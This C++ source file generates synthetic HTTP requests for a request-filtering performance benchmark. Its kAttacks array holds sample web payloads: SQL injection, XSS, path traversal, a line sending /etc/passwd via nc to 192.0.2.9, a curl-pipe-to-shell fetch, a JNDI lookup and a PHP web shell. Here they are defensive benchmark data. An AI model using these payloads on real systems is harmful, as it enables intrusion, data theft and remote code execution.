// SPDX-License-Identifier: Apache-2.0
// Copyright the Sluice authors

#include "perf/micro/request_classes.h"

#include <fmt/format.h>

#include <random>
#include <string_view>

namespace sluice::perf {

namespace {

constexpr std::string_view kWords[] = {
    "order",   "account", "blue",     "garden", "invoice",   "market",  "river",   "summer",
    "winter",  "london",  "berlin",   "paris",  "tokyo",     "table",   "chair",   "window",
    "kitchen", "product", "customer", "price",  "delivery",  "address", "street",  "number",
    "green",   "yellow",  "orange",   "purple", "silver",    "golden",  "morning", "evening",
    "monday",  "friday",  "january",  "march",  "october",   "small",   "medium",  "large",
    "cotton",  "leather", "wooden",   "metal",  "paper",     "travel",  "camera",  "phone",
    "laptop",  "monitor", "keyboard", "coffee", "chocolate", "vanilla", "bread",   "cheese"};

constexpr std::string_view kAttacks[] = {
    "1' OR '1'='1' -- {}",
    "-1 UNION SELECT username, password FROM users WHERE id={}",
    "1; DROP TABLE orders{}--",
    "<script>alert({})</script>",
    "<img src=x onerror=alert({})>",
    "javascript:alert(document.cookie+{})",
    "../../../../etc/passwd?{}",
    "; cat /etc/passwd | nc 192.0.2.9 {}",
    "$(curl http://192.0.2.9/{}.sh|sh)",
    "${{jndi:ldap://192.0.2.9/a{}}}",
    "<?php system($_GET['c{}']); ?>",
    "() {{ :; }}; /bin/bash -c 'id {}'",
    "http://192.0.2.9/shell{}.txt?",
    "java.lang.Runtime.getRuntime().exec('id{}')",
    "1 AND SLEEP({})",
    "%27%20AND%20{}=1%20waitfor%20delay%20%270:0:9%27"};

/// Random values as APIs carry them.
class Values {
 public:
  explicit Values(std::uint64_t seed) : random_(seed) {}

  std::uint64_t below(std::uint64_t bound) { return random_() % bound; }
  std::string word() { return std::string(kWords[below(std::size(kWords))]); }
  std::string hex(std::size_t digits) {
    std::string text;
    for (std::size_t i = 0; i < digits; ++i) text += "0123456789abcdef"[below(16)];
    return text;
  }
  std::string uuid() {
    return hex(8) + "-" + hex(4) + "-4" + hex(3) + "-a" + hex(3) + "-" + hex(12);
  }
  std::string token(std::size_t size) {
    constexpr std::string_view kAlphabet =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    std::string text;
    for (std::size_t i = 0; i < size; ++i) text += kAlphabet[below(kAlphabet.size())];
    return text;
  }
  std::string date() {
    return fmt::format("20{:02}-{:02}-{:02}", below(30), 1 + below(12), 1 + below(28));
  }
  std::string email() {
    return word() + "." + word() + std::to_string(below(9999)) + "@" + word() + ".example";
  }
  std::string phrase(std::string_view blank, std::size_t words) {
    std::string text = word();
    for (std::size_t i = 1; i < words; ++i) text += std::string(blank) + word();
    return text + std::string(blank) + std::to_string(below(100000));
  }
  /// A value as it stands in a query or a form.
  std::string argument() {
    switch (below(8)) {
      case 0:
        return std::to_string(below(1'000'000));
      case 1:
        return uuid();
      case 2:
        return date() + "T" + std::to_string(10 + below(14)) + "%3A30%3A00Z";
      case 3:
        return phrase("+", 3);
      case 4:
        return email();
      case 5:
        return token(24);
      case 6:
        return phrase("%20", 2);
      default:
        return word() + "-" + std::to_string(below(100000));
    }
  }
  std::string user_agent() {
    return fmt::format(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/{}.0.{}.{} Safari/537.36",
        80 + below(50), below(10000), below(1000));
  }
  std::string attack() {
    return fmt::format(fmt::runtime(kAttacks[below(std::size(kAttacks))]), below(100000));
  }

 private:
  std::mt19937_64 random_;
};

std::string percent_encode(std::string_view text) {
  std::string result;
  for (const char c : text) {
    const auto byte = static_cast<unsigned char>(c);
    if (std::isalnum(byte) != 0 || c == '-' || c == '.' || c == '%') {
      result += c;
    } else {
      result += fmt::format("%{:02x}", byte);
    }
  }
  return result;
}

std::string json_escape(std::string_view text) {
  std::string result;
  for (const char c : text) {
    if (c == '"' || c == '\\') result += '\\';
    result += c;
  }
  return result;
}

/// `attack`: empty, or the text of one argument.
std::string tiny_get(Values& values, const std::string& attack) {
  std::string path = "/api/" + values.word() + "/" + std::to_string(values.below(10'000'000));
  if (!attack.empty()) path += "?q=" + percent_encode(attack);
  return "GET " + path + " HTTP/1.1\r\nHost: " + values.word() +
         std::to_string(values.below(1000)) + ".example\r\nUser-Agent: client/" +
         std::to_string(values.below(100)) + "." + std::to_string(values.below(100000)) +
         "\r\nAccept: */*\r\n\r\n";
}

std::string large_get(Values& values, const std::string& attack) {
  std::string query;
  const std::uint64_t place = values.below(10);
  for (std::uint64_t i = 0; i < 10; ++i) {
    query += (i == 0 ? "?" : "&") + values.word() + std::to_string(i) + "=";
    query += !attack.empty() && i == place ? percent_encode(attack) : values.argument();
  }
  std::string cookies;
  for (int i = 0; i < 6; ++i) {
    if (i > 0) cookies += "; ";
    cookies +=
        values.word() + std::to_string(i) + "=" + (i % 2 == 0 ? values.token(32) : values.hex(24));
  }
  return "GET /" + values.word() + "/" + values.word() + "/" +
         std::to_string(values.below(100000)) + query + " HTTP/1.1\r\nHost: " + values.word() +
         ".example\r\nUser-Agent: " + values.user_agent() +
         "\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
         "Accept-Language: en-GB,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\nReferer: "
         "https://www.example/" +
         values.word() + "/" + values.word() + "-" + std::to_string(values.below(100000)) +
         "\r\nCookie: " + cookies +
         "\r\nConnection: keep-alive\r\nCache-Control: max-age=0\r\nX-Request-Id: " +
         values.uuid() + "\r\nX-Forwarded-For: 192.0.2." + std::to_string(values.below(256)) +
         "\r\nAuthorization: Bearer " + values.token(40) + "\r\n\r\n";
}

std::string json_post(Values& values, const std::string& attack) {
  std::string body = "{\"id\":\"" + values.uuid() + "\",\"items\":[";
  const std::uint64_t place = values.below(5);
  for (std::uint64_t i = 0; i < 5; ++i) {
    if (i > 0) body += ",";
    body += fmt::format(R"({{"sku":"{}-{}","name":"{}","price":{}.{:02},"note":"{}","count":{}}})",
                        values.word(), values.below(1'000'000), values.phrase(" ", 2),
                        values.below(1000), values.below(100),
                        !attack.empty() && i == place ? json_escape(attack) : values.phrase(" ", 4),
                        values.below(50));
  }
  body += fmt::format(R"(],"customer":{{"name":"{}","email":"{}","since":"{}"}},"token":"{}"}})",
                      values.phrase(" ", 2), values.email(), values.date(), values.token(64));
  while (body.size() < 1000) body += " ";
  return "POST /api/v2/" + values.word() + " HTTP/1.1\r\nHost: " + values.word() +
         ".example\r\nUser-Agent: " + values.user_agent() +
         "\r\nAccept: application/json\r\nContent-Type: application/json\r\nContent-Length: " +
         std::to_string(body.size()) + "\r\n\r\n" + body;
}

std::string xml_escape(std::string_view text) {
  std::string result;
  for (const char c : text) {
    if (c == '<' || c == '&') {
      result += c == '<' ? "&lt;" : "&amp;";
    } else {
      result += c;
    }
  }
  return result;
}

/// Pretty-printed, as most of it is sent: every second text node is blank.
std::string xml_post(Values& values, const std::string& attack) {
  std::string body = "<?xml version=\"1.0\"?>\n<order id=\"" + values.uuid() + "\">\n";
  const std::uint64_t place = values.below(5);
  for (std::uint64_t i = 0; i < 5; ++i) {
    body += fmt::format(
        "  <item sku=\"{}-{}\">\n    <name>{}</name>\n    <price>{}.{:02}</price>\n"
        "    <note>{}</note>\n  </item>\n",
        values.word(), values.below(1'000'000), values.phrase(" ", 2), values.below(1000),
        values.below(100),
        !attack.empty() && i == place ? xml_escape(attack) : values.phrase(" ", 4));
  }
  body += fmt::format("  <customer><name>{}</name><email>{}</email></customer>\n</order>\n",
                      values.phrase(" ", 2), values.email());
  return "POST /api/v2/" + values.word() + " HTTP/1.1\r\nHost: " + values.word() +
         ".example\r\nUser-Agent: " + values.user_agent() +
         "\r\nAccept: application/xml\r\nContent-Type: application/xml\r\nContent-Length: " +
         std::to_string(body.size()) + "\r\n\r\n" + body;
}

}  // namespace

std::vector<RequestClass> make_request_classes(std::uint64_t seed, std::size_t count) {
  Values values(seed);
  std::vector<RequestClass> classes = {
      {"tiny GET", true, {}},         {"GET, 10 args, 12 headers, 6 cookies", true, {}},
      {"POST JSON 1 kB", true, {}},   {"attack, tiny GET", false, {}},
      {"attack, 10 args", false, {}}, {"attack, JSON", false, {}},
      {"POST XML 1 kB", true, {}},    {"attack, XML", false, {}}};
  constexpr std::string (*kShapes[])(Values&, const std::string&) = {
      tiny_get, large_get, json_post, tiny_get, large_get, json_post, xml_post, xml_post};
  for (std::size_t shape = 0; shape < classes.size(); ++shape) {
    RequestClass& each = classes[shape];
    for (std::size_t i = 0; i < count; ++i) {
      const std::string attack = each.honest ? std::string() : values.attack();
      each.requests.push_back(kShapes[shape](values, attack));
    }
  }
  return classes;
}

}  // namespace sluice::perf
